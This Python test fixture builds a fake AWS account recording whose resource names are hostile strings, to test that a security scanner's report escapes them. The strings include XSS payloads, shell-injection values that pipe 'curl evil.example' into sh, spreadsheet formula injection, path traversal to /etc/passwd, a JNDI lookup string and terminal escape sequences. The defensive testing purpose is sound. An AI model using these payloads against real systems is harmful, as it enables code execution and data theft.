"""A recording in which everything that somebody may name is named to attack whoever reads the report."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from scanner.aws.recording import file_name

ACCOUNT = "123456789012"
REGION = "eu-west-1"
HOSTILE = (
    "<script>window.pwned=1</script>",
    "</script><img src=x onerror=window.pwned=1>",
    "'\"><svg onload=window.pwned=1>",
    "; curl evil.example | sh #",
    "$(curl evil.example)`reboot`&&!!",
    "it's \"quoted\" \\' back\\",
    "--endpoint-url=https://evil.example",
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "javascript:window.pwned=1",
    "file:///etc/passwd",
    "../../../etc/passwd",
    "\u202egnp.exe\u2066\u200b",
    "\x1b[2J\x1b]0;owned\x07\x9b31m\x00\x08",
    "one\nFAKE: all is well\r\ntwo\u2028three",
    "{derived.name}{Policy.__class__}%s${jndi:x}%{x}",
    "half a pair \ud83d",
    "long-" + "0123456789" * 1024,
)
"""What an attacker may call a bucket, a group, a user, a tag; the last has ten kilobytes."""

ANYBODY = {"Effect": "Allow", "Principal": "*", "Action": "*", "Resource": "*"}
OPEN = {"IpProtocol": "-1", "IpRanges": [{"CidrIp": "0.0.0.0/0"}], "Ipv6Ranges": [], "PrefixListIds": []}


def write(folder: Path, *, versioning: str = "") -> Path:
    """The recording of an account, in the folder: a bucket, group, key, user and role of every name."""
    _save(folder, "sts/global", "get_caller_identity", {"Arn": f"arn:aws:iam::{ACCOUNT}:user/x", "Account": ACCOUNT})
    _buckets(folder, {"Status": versioning} if versioning else {})
    _groups(folder)
    _keys(folder)
    _identities(folder)
    return folder


def whole(name: str) -> str:
    """The name as it is after reading: half a pair of surrogates is no character."""
    return name.encode("utf-16", "surrogatepass").decode("utf-16", "replace")


def _save(folder: Path, place: str, operation: str, answer: dict[str, Any], **params: str) -> None:
    path = folder / ACCOUNT / place / file_name(operation, params)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(answer), "ascii")


def _tags(name: str, key: str = "Key", value: str = "Value") -> list[dict[str, str]]:
    return [{key: "Name", value: name}, {key: name, value: name}]


def _buckets(folder: Path, versioning: dict[str, str]) -> None:
    buckets = [{"Name": name, "BucketRegion": REGION} for name in HOSTILE]
    _save(folder, "s3/global", "list_buckets", {"Buckets": buckets})
    for name in map(whole, HOSTILE):
        policy = json.dumps({"Version": "2012-10-17", "Statement": [{**ANYBODY, "Sid": name}]})
        grant = {"Grantee": {"Type": "CanonicalUser", "ID": name, "DisplayName": name}, "Permission": "WRITE"}
        for operation, answer in {
            "get_bucket_policy": {"Policy": policy},
            "get_bucket_versioning": versioning,
            "get_bucket_acl": {"Owner": {"ID": "owner", "DisplayName": name}, "Grants": [grant]},
            "get_bucket_tagging": {"TagSet": _tags(name)},
            "get_bucket_logging": {"LoggingEnabled": {"TargetBucket": name, "TargetPrefix": name}},
        }.items():
            _save(folder, f"s3/{REGION}", operation, answer, Bucket=name)


def _groups(folder: Path) -> None:
    groups = [
        {
            "GroupId": name, "GroupName": name, "Description": name, "OwnerId": ACCOUNT, "VpcId": "vpc-1",
            "IpPermissions": [{**OPEN, "UserIdGroupPairs": [{"GroupId": name, "Description": name}]}],
            "IpPermissionsEgress": [], "Tags": _tags(name),
        }
        for name in HOSTILE
    ]  # fmt: skip
    _save(folder, f"ec2/{REGION}", "describe_security_groups", {"SecurityGroups": groups})


def _keys(folder: Path) -> None:
    arns = {name: f"arn:aws:kms:{REGION}:{ACCOUNT}:key/{name}" for name in map(whole, HOSTILE)}
    _save(folder, f"kms/{REGION}", "list_keys", {"Keys": [{"KeyId": n, "KeyArn": arn} for n, arn in arns.items()]})
    for name, arn in arns.items():
        key = {
            "KeyId": name, "Arn": arn, "Description": name, "KeyManager": "CUSTOMER", "KeyState": "Enabled",
            "KeySpec": "SYMMETRIC_DEFAULT", "KeyUsage": "ENCRYPT_DECRYPT", "Origin": "AWS_KMS", "Enabled": True,
        }  # fmt: skip
        _save(folder, f"kms/{REGION}", "describe_key", {"KeyMetadata": key}, KeyId=name)
        _save(folder, f"kms/{REGION}", "get_key_rotation_status", {"KeyRotationEnabled": False}, KeyId=name)
        policy = json.dumps({"Version": "2012-10-17", "Statement": [{**ANYBODY, "Sid": name}]})
        _save(folder, f"kms/{REGION}", "get_key_policy", {"Policy": policy}, KeyId=name, PolicyName="default")


def _identities(folder: Path) -> None:
    admin = {"Version": "2012-10-17", "Statement": [{"Sid": "x", "Effect": "Allow", "Action": "*", "Resource": "*"}]}
    trust = {"Version": "2012-10-17", "Statement": [{**ANYBODY, "Action": "sts:AssumeRole"}]}
    users, roles = [], []
    for name in HOSTILE:
        trust["Statement"] = [{"Sid": name, "Effect": "Allow", "Principal": "*", "Action": "sts:AssumeRole"}]
        common = {"Path": "/", "CreateDate": "2020-01-01T00:00:00Z", "AttachedManagedPolicies": [], "Tags": _tags(name)}
        inline = [{"PolicyName": name, "PolicyDocument": json.dumps(admin)}]
        arn = f"arn:aws:iam::{ACCOUNT}"
        users.append({**common, "UserName": name, "UserId": f"A{name}", "Arn": f"{arn}:user/{name}",
                      "UserPolicyList": inline, "GroupList": []})  # fmt: skip
        roles.append({**common, "RoleName": name, "RoleId": f"R{name}", "Arn": f"{arn}:role/{name}",
                      "AssumeRolePolicyDocument": json.dumps(trust), "RolePolicyList": inline,
                      "InstanceProfileList": []})  # fmt: skip
    answer = {"UserDetailList": users, "RoleDetailList": roles, "GroupDetailList": [], "Policies": []}
    _save(folder, "iam/global", "get_account_authorization_details", answer)
